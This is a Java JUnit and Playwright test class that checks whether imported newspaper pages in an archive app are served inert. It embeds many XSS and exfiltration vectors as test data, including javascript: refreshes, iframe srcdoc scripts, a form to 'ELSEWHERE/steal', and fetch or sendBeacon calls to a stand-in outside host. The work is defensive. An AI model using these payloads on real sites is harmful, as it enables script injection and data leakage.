package hemeroteca.attack;

import java.util.ArrayList;
import java.util.List;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.options.FilePayload;
import hemeroteca.House;
import hemeroteca.SampleHouse;
import hemeroteca.account.Wire;
import hemeroteca.format.Print;
import hemeroteca.web.Chromium;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * The original as it was saved is hostile and stays so: it may try, and must reach
 * nothing. What left the browser is heard at the other end.
 */
@House
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class OriginalTests {

	/** Ends what an attack left open, so that the next one is read as it was meant. */
	private static final String END = "-->'\"></script></style></title></textarea></xmp></noscript></noembed></noframes></iframe>"
			+ "</select></template></svg></math></table></form></listing>";

	private static final int TOGETHER = 12;

	// What takes the whole page, or hides what stands after it.
	private static final List<Vector> ALONE = Vector
		.read("""
				refresh at once         ~ <meta http-equiv="refresh" content="0;url=ELSEWHERE/refresh">
				refresh to script       ~ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
				refresh to data         ~ <meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
				refresh to ourselves    ~ <meta http-equiv="refresh" content="0;url=/imports">
				preconnect              ~ <link rel="preconnect" href="ELSEWHERE"><link rel="preconnect" href="ELSEWHERE" crossorigin>
				dns-prefetch            ~ <link rel="dns-prefetch" href="ELSEWHERE"><meta http-equiv="x-dns-prefetch-control" content="on">
				prefetch                ~ <link rel="prefetch" href="ELSEWHERE/p"><link rel="prerender" href="ELSEWHERE/r"><link rel="next" href="ELSEWHERE/n">
				preload                 ~ <link rel="preload" as="image" href="ELSEWHERE/i"><link rel="preload" as="fetch" href="ELSEWHERE/f" crossorigin><link rel="modulepreload" href="ELSEWHERE/m.js">
				icon and manifest       ~ <link rel="icon" href="ELSEWHERE/i.ico"><link rel="manifest" href="ELSEWHERE/m.json"><link rel="apple-touch-icon" href="ELSEWHERE/a.png">
				speculation             ~ <script type="speculationrules">{"prerender":[{"urls":["ELSEWHERE/s"]}],"prefetch":[{"urls":["ELSEWHERE/t"]}]}</script>
				frames                  ~ <iframe src="ELSEWHERE/f"></iframe><iframe src="/"></iframe><iframe srcdoc="<img src=ELSEWHERE/g onerror=alert(1)><script>alert(1)</script>"></iframe>
				frames of script        ~ <iframe src="javascript:alert(1)"></iframe><iframe src="data:text/html,<script>alert(1)</script>"></iframe><iframe src="blob:x"></iframe><object data="/"></object><embed src="/">
				its own sandbox         ~ <iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>top.location='ELSEWHERE/t'</script>"></iframe>
				a looser policy         ~ <meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'; sandbox allow-scripts"><script>alert(1)</script><img src="ELSEWHERE/i">
				a looser referrer       ~ <meta name="referrer" content="unsafe-url"><img src="ELSEWHERE/r" referrerpolicy="unsafe-url">
				client hints            ~ <meta http-equiv="delegate-ch" content="sec-ch-ua-model ELSEWHERE"><meta http-equiv="Accept-CH" content="DPR"><img src="ELSEWHERE/c">
				styles and fonts        ~ <style>@import "ELSEWHERE/i.css"; @font-face{font-family:x;src:url(ELSEWHERE/f.woff)} *{font-family:x;background:url(ELSEWHERE/b.png);cursor:url(ELSEWHERE/c.cur),auto} @namespace url(ELSEWHERE/n);</style>
				styles that ask         ~ <style>@media (min-width:1px){body{background:image-set(url(ELSEWHERE/m.png) 1x)}} p::before{content:url(ELSEWHERE/p.png)} body{mask:url(ELSEWHERE/k.svg#x);filter:url(ELSEWHERE/f.svg#x);clip-path:url(ELSEWHERE/c.svg#x)}</style>
				linked styles           ~ <link rel="stylesheet" href="ELSEWHERE/l.css"><link rel="stylesheet" href="data:text/css,@import 'ELSEWHERE/d.css'"><?xml-stylesheet href="ELSEWHERE/x.xsl"?>
				media                   ~ <video autoplay muted src="ELSEWHERE/v.mp4" poster="ELSEWHERE/p.png"><track default src="ELSEWHERE/t.vtt"></video><audio autoplay src="ELSEWHERE/a.mp3"></audio>
				a picture of ours       ~ <img src="/articles/1/picture"><img src="/icon.svg"><img src="//localhost/x.png">
				svg in a data address   ~ <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='ELSEWHERE/d.png'/><script>alert(1)</script></svg>"><svg><image href="ELSEWHERE/e.png"/><use href="ELSEWHERE/u.svg#x"/><feImage href="ELSEWHERE/f.png"/></svg>
				a form that has focus   ~ <form action="ELSEWHERE/steal"><input autofocus onfocus="alert(1)"><input type="image" src="ELSEWHERE/i.png"></form><details open ontoggle="alert(1)">x</details>
				a page in frames        ~ </article></body><frameset onload="alert(1)" rows="*"><frame src="ELSEWHERE/frame"></frameset>
				a page of old           ~ <body background="ELSEWHERE/b.png" onload="alert(1)"><bgsound src="ELSEWHERE/s.mid"><table background="ELSEWHERE/t.png"><tr><td>x</table>
				a manifest and a worker ~ <html manifest="ELSEWHERE/m"><script>navigator.serviceWorker.register('/x.js'); new Worker('ELSEWHERE/w.js'); new WebSocket('ELSEWHERE'.replace('http','ws')); fetch('ELSEWHERE/f'); navigator.sendBeacon('ELSEWHERE/b')</script>
				a portal                ~ <portal src="ELSEWHERE/p"></portal><fencedframe></fencedframe><webview src="ELSEWHERE/w"></webview><object type="text/html" data="ELSEWHERE/o"></object><applet code="ELSEWHERE/a.class"></applet>
				""");

	// One after the other, each clicked.
	private static final String BAIT = """
			<p><a id="b1" href="ELSEWHERE/top" target="_top">one</a> <a id="b2" href="ELSEWHERE/parent" target="_parent">two</a>
			<a id="b3" href="ELSEWHERE/blank" target="_blank" rel="opener">three</a> <a id="b4" href="javascript:alert(1)">four</a>
			<a id="b5" href="data:text/html,x" download="x.html">five</a> <a id="b6" href="https://quay.example/" ping="ELSEWHERE/ping" target="_top">six</a>
			<a id="b7" href="/articles/1/original/file" download>seven</a> <a id="b8" href="https://quay.example/" onclick="alert(1)" target="_self">eight</a></p>
			<form action="ELSEWHERE/form" target="_top"><button id="b9">nine</button><button id="b10" formaction="ELSEWHERE/formaction">ten</button></form>
			<form action="/trash/restore" method="post"><button id="b11" name="article" value="1">eleven</button></form>
			<form method="dialog"><button id="b12" onclick="alert(1)">twelve</button></form>""";

	private static final int BAITS = 12;

	@LocalServerPort
	int port;

	@Autowired
	SampleHouse house;

	@Autowired
	JdbcClient database;

	private Chromium chromium;

	private Elsewhere elsewhere;

	private Delivered delivered;

	private final List<String> names = new ArrayList<>();

	@BeforeAll
	void importAll() throws Exception {
		chromium = Chromium.open();
		elsewhere = new Elsewhere();
		house.empty();
		var files = new ArrayList<FilePayload>();
		var together = BodyVectors.ALL;
		for (int from = 0; from < together.size(); from += TOGETHER) {
			var some = new StringBuilder();
			together.subList(from, Math.min(from + TOGETHER, together.size()))
				.forEach((vector) -> some.append("<div>").append(vector.payload()).append(END).append("</div>\n"));
			files.add(file("vectors from " + from, some.toString()));
		}
		ALONE.forEach((vector) -> files.add(file(vector.name(), vector.payload())));
		files.add(letter(files.getFirst()));
		files.forEach((file) -> names.add(file.name));
		files.add(print());
		files.add(file("bait", BAIT));
		files.add(file("links", "<a id=\"self\" href=\"ELSEWHERE/self\">quay</a>"));
		try (var window = new Watched(chromium, port, true)) {
			window.go("/imports");
			delivered = Delivered.byForm(window.page(), files, house, database);
		}
	}

	@AfterAll
	void close() {
		if (chromium != null) {
			chromium.close();
			elsewhere.close();
		}
	}

	private FilePayload file(String name, String body) {
		String page = """
				<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Of %1$s</title></head><body><article><h1>Of %1$s</h1>
				<p>At five in the morning the radio on the quay went quiet, and it stayed quiet until the light came over the water. There are usually forty calls in the first hour.</p>
				<p>By noon thirty-one ships lay at anchor outside the bar. The port, which handles a ninth of the grain and nearly all of the bananas, had stopped without a picket line.</p>
				<p>The pilots and the crane drivers belong to different unions, work under different laws and have not always been friends. What they share is a clock, and it had stopped.</p>
				%2$s</article></body></html>"""
			.formatted(name, body.replace("ELSEWHERE", elsewhere.address()));
		return new FilePayload(name + ".html", "text/html", page.getBytes(UTF_8));
	}

	/** The same vectors in a web archive, whose pictures and styles are put into it. */
	private FilePayload letter(FilePayload page) {
		String html = new String(page.buffer, UTF_8).replace("Of vectors", "Of a web archive with vectors")
			.replace("five in the morning", "six in the morning");
		String mhtml = "From: <Saved by Blink>\nSnapshot-Content-Location: https://quay.example/radio\nMIME-Version: 1.0\n"
				+ "Content-Type: multipart/related; boundary=\"quay\"\n\n--quay\nContent-Type: text/html; charset=utf-8\n\n"
				+ html.replace("</head>", "<link rel=stylesheet href=a.css></head>")
				+ "\n--quay\nContent-Type: text/css\nContent-Location: https://quay.example/a.css\n\n@import url(ELSEWHERE/i.css); "
					.replace("ELSEWHERE", elsewhere.address())
				+ "</style><script>alert(1)</script><img src=x onerror=alert(1)>\n--quay--\n";
		return new FilePayload("archive.mhtml", "multipart/related", mhtml.getBytes(UTF_8));
	}

	private static FilePayload print() {
		var print = new Print().set(24, "Of a printed page that the quay gave out");
		for (String hour : new String[] { "seven", "eight", "nine", "ten" }) {
			print.set(11,
					"At %s in the evening the radio on the quay went on, and it stayed on until the light went off the water, and there were forty calls in the hour."
						.formatted(hour));
		}
		return new FilePayload("print.pdf", "application/pdf", print.bytes());
	}

	@Test
	void aPrintedPageIsGivenOutAsAFile() throws Exception {
		var wire = new Wire(port);
		String path = "/articles/%d/original".formatted(delivered.article("print.pdf"));
		var answer = wire.get(path + "/content");
		assertThat(answer.header("Content-Type").orElseThrow()).isEqualTo("application/pdf");
		assertThat(answer.header("Content-Disposition").orElseThrow()).startsWith("attachment");
		assertThat(answer.all("X-Content-Type-Options")).containsExactly("nosniff");
		assertThat(answer.all("Content-Security-Policy")).singleElement().asString().startsWith("sandbox; ");
		try (var window = new Watched(chromium, port, true)) {
			window.go(path);
			assertThat(window.page().locator("iframe").count()).isZero();
			assertThat(window.page().locator(".elsewhere").textContent()).startsWith("This is a PDF.");
		}
	}

	@Test
	void doesNothingInItsFrame() {
		try (var window = new Watched(chromium, port, true)) {
			for (String name : names) {
				String path = "/articles/%d/original".formatted(delivered.article(name));
				window.go(path);
				assertThat(window.page().url()).endsWith(path);
				assertThat(window.page().frames()).as(name).hasSizeGreaterThan(1);
			}
			window.page().waitForTimeout(300);
			assertThat(window.deeds()).isEmpty();
		}
		assertThat(elsewhere.heard()).isEmpty();
	}

	@Test
	void doesNothingOnAPageOfItsOwn() {
		try (var window = new Watched(chromium, port, true)) {
			for (String name : names) {
				String path = "/articles/%d/original/content".formatted(delivered.article(name));
				window.go(path);
				assertThat(window.page().url()).as(name).endsWith(path);
			}
			window.page().waitForTimeout(300);
			assertThat(window.page().url()).contains("/original/content");
			assertThat(window.deeds()).isEmpty();
		}
		assertThat(elsewhere.heard()).isEmpty();
	}

	@Test
	void leadsNowhereWhateverIsClickedInIt() {
		try (var window = new Watched(chromium, port, true)) {
			String path = "/articles/%d/original".formatted(delivered.article("bait.html"));
			for (int bait = 1; bait <= BAITS; bait++) {
				window.go(path);
				content(window).locator("#b" + bait).click();
				window.page().waitForTimeout(100);
				assertThat(window.page().url()).as("after bait " + bait).endsWith(path);
			}
			assertThat(window.deeds()).isEmpty();
		}
		assertThat(elsewhere.heard()).isEmpty();
	}

	private static Frame content(Watched window) {
		return window.page()
			.frames()
			.stream()
			.filter((frame) -> frame.url().contains("/original/content"))
			.findFirst()
			.orElseThrow();
	}

	@Test
	void doesNotFollowALinkInItsFrame() {
		try (var window = new Watched(chromium, port, true)) {
			window.go("/articles/%d/original".formatted(delivered.article("links.html")));
			content(window).locator("#self").click();
			window.page().waitForTimeout(300);
			assertThat(window.deeds()).isEmpty();
		}
		// The browser opens the connection at the click; nothing is asked over it.
		assertThat(elsewhere.heard()).allMatch((it) -> !it.contains("HTTP"));
		elsewhere.heard().clear();
	}

	@Test
	void comesNeverAsAPageOfOurs() throws Exception {
		var wire = new Wire(port);
		for (String kind : new String[] { "content", "file" }) {
			var answer = wire.get("/articles/%d/original/%s".formatted(delivered.article("bait.html"), kind));
			assertThat(answer.all("Content-Security-Policy")).singleElement()
				.asString()
				.startsWith("sandbox; default-src 'none'; ")
				.doesNotContain("allow-", "script-src", "connect-src", "http", "'self' ");
			assertThat(answer.all("X-Content-Type-Options")).containsExactly("nosniff");
			assertThat(answer.all("Set-Cookie")).isEmpty();
			assertThat(answer.all("Referrer-Policy")).containsExactly("no-referrer");
			assertThat(answer.all("X-DNS-Prefetch-Control")).containsExactly("off");
			assertThat(answer.all("Cross-Origin-Resource-Policy")).containsExactly("same-origin");
		}
		assertThat(wire.get("/articles/%d/original/file".formatted(delivered.article("bait.html")))
			.header("Content-Disposition")
			.orElseThrow()).startsWith("attachment");
	}

	@Test
	void comesAsTextWhereItWasText() throws Exception {
		String text = """
				The radio on the quay | World | The Quay Gazette

				At five in the morning the radio on the quay went quiet, and it stayed quiet until the light came over the water.

				He said so, and <script>alert(1)</script>, and there are usually forty calls in the first hour, of ships and of boats.

				By noon thirty-one ships lay at anchor outside the bar, and the port had stopped, and it had stopped without a picket line.
				""";
		try (var window = new Watched(chromium, port, true)) {
			window.go("/imports");
			var one = Delivered.byForm(window.page(),
					List.of(new FilePayload("quay.txt", "text/html", text.getBytes(UTF_8))), house, database);
			var answer = window.go("/articles/%d/original/content".formatted(one.article("quay.txt")));
			assertThat(answer.headerValue("content-type")).isEqualTo("text/plain;charset=UTF-8");
			assertThat(window.page().locator("body").innerText()).contains("<script>alert(1)</script>");
			assertThat(window.deeds()).isEmpty();
		}
	}

	@Test
	void takesNoPictureThatMayHoldScript() {
		var svg = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script><text>%s</text></svg>"
			.formatted("At five in the morning the radio went quiet. ".repeat(20));
		try (var window = new Watched(chromium, port, true)) {
			window.go("/imports");
			var one = Delivered.byForm(window.page(),
					List.of(new FilePayload("picture.svg", "image/svg+xml", svg.getBytes(UTF_8)), new FilePayload(
							"picture.html", "text/html", ("<?xml version=\"1.0\"?>\n" + svg).getBytes(UTF_8))),
					house, database);
			assertThat(one.files().values()).extracting(Delivered.File::outcome).containsOnly("unreadable");
			assertThat(one.files().values()).extracting(Delivered.File::detail)
				.containsOnly("not a page: looks like an SVG picture");
		}
	}

}
